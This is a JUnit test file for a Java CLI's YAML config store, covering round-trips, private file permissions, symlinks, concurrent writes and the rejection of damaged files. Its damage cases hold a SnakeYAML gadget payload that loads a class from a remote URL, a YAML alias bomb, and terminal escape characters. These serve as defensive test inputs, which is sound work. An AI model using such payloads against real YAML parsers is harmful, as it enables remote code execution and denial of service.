package dev.astroshell.session;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import dev.astroshell.cli.CliException;
import dev.astroshell.cli.Completer;
import dev.astroshell.cli.ExitCodes;

import dev.astroshell.session.SavedConfig.Saved;
import dev.astroshell.session.SessionContext.Ref;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

class ConfigStoreTest {

	@TempDir
	Path dir;

	@Test
	void roundTripsContextsWithNonAsciiNames() {
		ConfigStore store = new ConfigStore(dir.resolve("astro-shell/config.yaml"));
		Saved saved = new Saved("astronomer.io", "tok", new Ref("o1", "Équipe \"données\""), new Ref("w1", null),
				new Ref("d1", "etl prod \u001b[2J\u0007\n\u009b\u202e"));
		store.update(c -> c.with(saved, true));
		SavedConfig loaded = new ConfigStore(store.file()).load();
		assertThat(loaded.current()).isEqualTo("astronomer.io");
		assertThat(loaded.context("astronomer.io")).isEqualTo(saved);
	}

	@Test
	void fileIsPrivateAndNoTempFileIsLeft() throws Exception {
		ConfigStore store = new ConfigStore(dir.resolve("config.yaml"));
		store.update(c -> c.with(new Saved("sandbox", null, null, null, null), true));
		assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(store.file()))).isEqualTo("rw-------");
		try (var files = Files.list(dir)) {
			assertThat(files.map(p -> p.getFileName().toString())).containsExactlyInAnyOrder("config.yaml",
					"config.yaml.lock");
		}
	}

	static final String ALIAS_BOMB = """
			a: &a ["x","x","x","x","x","x","x","x","x"]
			b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
			c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
			d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
			current-context: sandbox
			""";

	static Stream<Arguments> damage() {
		return Stream.of(
				Arguments.of("garbage", "contexts: [unclosed", "line 1: expected ',' or ']', but got <stream end>"),
				Arguments.of("not a mapping", "just some words",
						"the file must be a mapping (key: value lines), not 'just some words' (str)"),
				Arguments.of("list current", "current-context:\n  - a\n",
						"line 2: current-context must be a string, not a list"),
				Arguments.of("number current", "current-context: 42",
						"line 1: current-context must be a string, not '42' (int)"),
				Arguments.of("bad domain", "current-context: 'not a host'",
						"line 1: current-context 'not a host' is not a valid domain"),
				Arguments.of("bad context key", "contexts:\n  'a b':\n    domain: 'a b'\n",
						"line 2: a context's domain 'a b' is not a valid domain"),
				Arguments.of("token a list", "contexts:\n  x.io:\n    token: [t]\n",
						"line 3: context x.io: token must be a string, not a list"),
				Arguments.of("ref without id", "contexts:\n  x.io:\n    workspace: {name: w}\n",
						"line 3: context x.io: workspace has no id"),
				Arguments.of("contexts a list", "contexts: [x.io]",
						"line 1: contexts must be a mapping (key: value lines), not a list"),
				Arguments.of("duplicate key", "current-context: sandbox\ncurrent-context: x.io",
						"line 2: the key 'current-context' appears twice"),
				Arguments.of("java tag",
						"current-context: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
								+ "[[!!java.net.URL ['http://x/']]]]",
						"line 1: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager"),
				Arguments.of("local tag under an unknown key", "later: !thing [x]\ncurrent-context: sandbox",
						"line 1: unexpected tag !thing"),
				Arguments.of("alias bomb", ALIAS_BOMB, "aliases"));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("damage")
	void aDamagedFileIsReportedAndNeverOverwritten(String kind, String yaml, String problem) throws Exception {
		assertDamaged(yaml.getBytes(StandardCharsets.UTF_8), problem);
	}

	@Test
	void bytesThatAreNotUtf8AreDamage() throws Exception {
		assertDamaged(new byte[] { 'c', 'u', (byte) 0xff, (byte) 0xfe, ':', ' ', 'x' }, "it is not UTF-8 text");
	}

	private void assertDamaged(byte[] content, String problem) throws Exception {
		Path file = dir.resolve("config.yaml");
		Files.write(file, content);
		ConfigStore store = new ConfigStore(file, Clock.fixed(Instant.parse("2026-11-28T23:40:05Z"), ZoneOffset.UTC));
		assertThatThrownBy(store::load).isInstanceOf(ConfigStore.DamagedConfigException.class)
			.hasMessageStartingWith("the config file " + file + " is damaged (")
			.hasMessageContaining(problem)
			.hasMessageEndingWith("); run 'login sandbox' (or 'login DOMAIN') to start a fresh one, the damaged file "
					+ "is kept as config.yaml.broken-<time>")
			.satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"))
			.satisfies(e -> assertThat(((CliException) e).exitCode()).isEqualTo(ExitCodes.FAILURE));
		assertThatThrownBy(() -> store.update(c -> c.with(new Saved("sandbox", null, null, null, null), true)))
			.isInstanceOf(ConfigStore.DamagedConfigException.class);
		assertThat(Files.readAllBytes(file)).as("byte-identical after a refused write").isEqualTo(content);

		Path kept = store.setAsideDamaged().orElseThrow();
		assertThat(kept).isEqualTo(dir.resolve("config.yaml.broken-20261128T234005Z"));
		assertThat(Files.readAllBytes(kept)).isEqualTo(content);
		assertThat(store.load()).isEqualTo(SavedConfig.EMPTY);
		store.update(c -> c.with(new Saved("sandbox", null, null, null, null), true));
		assertThat(store.load().current()).isEqualTo("sandbox");
		assertThat(store.setAsideDamaged()).as("a sound file stays").isEmpty();
		assertThat(Files.readAllBytes(kept)).isEqualTo(content);
	}

	@Test
	void aDirectoryIsDamageAndLoginCanSetItAside() throws Exception {
		Path file = Files.createDirectories(dir.resolve("config.yaml"));
		Files.writeString(file.resolve("inside"), "kept");
		ConfigStore store = new ConfigStore(file);

		assertThatThrownBy(store::load).isInstanceOf(ConfigStore.DamagedConfigException.class)
			.hasMessageContaining("is damaged (it is a directory, not a regular file)");
		assertThatThrownBy(() -> store.update(c -> c.with(new Saved("sandbox", null, null, null, null), true)))
			.isInstanceOf(ConfigStore.DamagedConfigException.class);

		Path kept = store.setAsideDamaged().orElseThrow();
		assertThat(kept.resolve("inside")).hasContent("kept");
		store.update(c -> c.with(new Saved("sandbox", null, null, null, null), true));
		assertThat(store.load().current()).isEqualTo("sandbox");
	}

	/** A named pipe is never opened: opening it for reading would block until someone writes to it. */
	@Test
	void aNamedPipeIsDamageAndNeverOpened() throws Exception {
		Path file = dir.resolve("config.yaml");
		assertThat(new ProcessBuilder("mkfifo", file.toString()).inheritIO().start().waitFor()).isZero();
		ConfigStore store = new ConfigStore(file);

		// a guard against hanging the build, not a measure: without the check, load() blocks for good
		assertTimeoutPreemptively(Duration.ofSeconds(60), () -> assertThatThrownBy(store::load)
			.isInstanceOf(ConfigStore.DamagedConfigException.class)
			.hasMessageContaining("is damaged (it is a named pipe, socket or device, not a regular file)"));
		assertThat(store.setAsideDamaged()).isPresent();
	}

	@Test
	void aFileOverOneMebibyteIsDamageUnread() throws Exception {
		String comment = "# " + "x".repeat(ConfigStore.MAX_BYTES) + "\n";
		Path file = Files.writeString(dir.resolve("config.yaml"), "current-context: sandbox\n" + comment);
		assertThatThrownBy(new ConfigStore(file)::load).isInstanceOf(ConfigStore.DamagedConfigException.class)
			.hasMessageContaining("is damaged (it is larger than 1 MiB)");
	}

	/** A config.yaml that links into a dotfiles directory stays a link: the write goes to its target. */
	@Test
	void aWriteGoesThroughASymbolicLinkToItsTarget() throws Exception {
		Path dotfiles = Files.createDirectories(dir.resolve("dotfiles"));
		Path target = Files.writeString(dotfiles.resolve("astro.yaml"), "current-context: sandbox\n");
		Path file = Files.createSymbolicLink(Files.createDirectories(dir.resolve("astro-shell")).resolve("config.yaml"),
				Path.of("../dotfiles/astro.yaml"));
		ConfigStore store = new ConfigStore(file);

		store.update(c -> c.with(new Saved("x.example.com", "t", null, null, null), true));

		assertThat(Files.isSymbolicLink(file)).isTrue();
		assertThat(Files.readString(target)).contains("x.example.com");
		assertThat(store.load().current()).isEqualTo("x.example.com");
		assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(target))).isEqualTo("rw-------");
		try (var files = Files.list(dotfiles)) {
			assertThat(files).as("no temp file left").containsExactly(target);
		}

		Files.delete(target);
		store.update(c -> c.with(new Saved("sandbox", null, null, null, null), true));
		assertThat(Files.isSymbolicLink(file)).as("a link to a file not there yet").isTrue();
		assertThat(store.load().current()).isEqualTo("sandbox");
	}

	@Test
	void aRewriteKeepsKeysThisVersionDoesNotKnow() throws Exception {
		Path file = Files.writeString(dir.resolve("config.yaml"), """
				theme: dark
				current-context: x.example.com
				contexts:
				  x.example.com:
				    domain: x.example.com
				    token: t
				    region: [eu, us]
				    organization: {id: o1, name: Org, tier: gold}
				    workspace: {id: w1, name: WS, color: red}
				later: {nested: 1}
				""");
		ConfigStore store = new ConfigStore(file);

		store.update(c -> c.with(new Saved("x.example.com", "t2", new Ref("o1", "Org renamed"), new Ref("w2", "Other"),
				null), true));

		String yaml = Files.readString(file);
		assertThat(yaml).contains("theme: dark", "region:", "- eu", "tier: gold", "nested: 1", "t2", "Org renamed")
			.doesNotContain("color: red");
		assertThat(yaml.indexOf("theme:")).as("in place").isLessThan(yaml.indexOf("current-context:"));
		assertThat(store.load().context("x.example.com"))
			.isEqualTo(new Saved("x.example.com", "t2", new Ref("o1", "Org renamed"), new Ref("w2", "Other"), null));
	}

	@Test
	void contextsCompleteToTheSavedDomainsAndTheSandbox() throws Exception {
		// a damaged config fails the look-up, which Tab turns into no proposal (CompletionTest)
		Path file = Files.writeString(dir.resolve("config.yaml"), "contexts:\n  x.io: {domain: x.io}\n");
		assertThat(new ContextCompletion(new ConfigStore(file)).complete(null)).extracting(Completer.Proposal::value)
			.containsExactly("sandbox", "x.io");
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "\n  \n", "# only a comment\n", "contexts:\n" })
	void aFileWithNoContentIsAnEmptyConfig(String yaml) throws Exception {
		Path file = dir.resolve("config.yaml");
		Files.writeString(file, yaml);
		ConfigStore store = new ConfigStore(file);
		assertThat(store.load()).isEqualTo(SavedConfig.EMPTY);
		assertThat(store.setAsideDamaged()).isEmpty();
		store.update(c -> c.with(new Saved("sandbox", null, null, null, null), true));
		assertThat(store.load().current()).isEqualTo("sandbox");
	}

	@Test
	void twoSetAsidesInTheSameSecondKeepBoth() throws Exception {
		Path file = dir.resolve("config.yaml");
		ConfigStore store = new ConfigStore(file, Clock.fixed(Instant.parse("2026-11-28T23:40:05Z"), ZoneOffset.UTC));
		Files.writeString(file, "one: [");
		Files.writeString(dir.resolve("config.yaml.broken-20261128T234005Z"), "earlier");
		assertThat(store.setAsideDamaged()).contains(dir.resolve("config.yaml.broken-20261128T234005Z-2"));
		assertThat(Files.readString(dir.resolve("config.yaml.broken-20261128T234005Z"))).isEqualTo("earlier");
	}

	@Test
	void tidyRemovesTempFilesOfAnInterruptedWriteAndCreatesAPrivateDirectory() throws Exception {
		Path file = dir.resolve("fresh/astro-shell/config.yaml");
		ConfigStore store = new ConfigStore(file);
		store.tidy();
		assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file.getParent())))
			.isEqualTo("rwx------");
		Path temp = Files.writeString(file.resolveSibling(".config-123456.tmp"), "current-context: half");
		Path other = Files.writeString(file.resolveSibling("notes.tmp"), "mine");
		store.tidy();
		assertThat(temp).doesNotExist();
		assertThat(other).exists();
	}

	@Test
	void theFirstWriteCreatesAPrivateDirectory() throws Exception {
		ConfigStore store = new ConfigStore(dir.resolve("new/astro-shell/config.yaml"));
		store.update(c -> c.with(new Saved("sandbox", null, null, null, null), true));
		assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(store.file().getParent())))
			.isEqualTo("rwx------");
	}

	@Test
	void concurrentWritersLoseNothing() throws Exception {
		Path file = dir.resolve("config.yaml");
		ExecutorService pool = Executors.newFixedThreadPool(4);
		List<Future<?>> writes = new ArrayList<>();
		for (int i = 0; i < 40; i++) {
			String domain = "domain" + i + ".example.com";
			// separate store objects, as two shells would have
			writes.add(pool.submit(() -> new ConfigStore(file)
				.update(c -> c.with(new Saved(domain, "t", new Ref("o", "Org"), null, null), false))));
		}
		for (Future<?> w : writes) {
			w.get();
		}
		pool.shutdown();
		assertThat(new ConfigStore(file).load().contexts()).hasSize(40);
	}
}
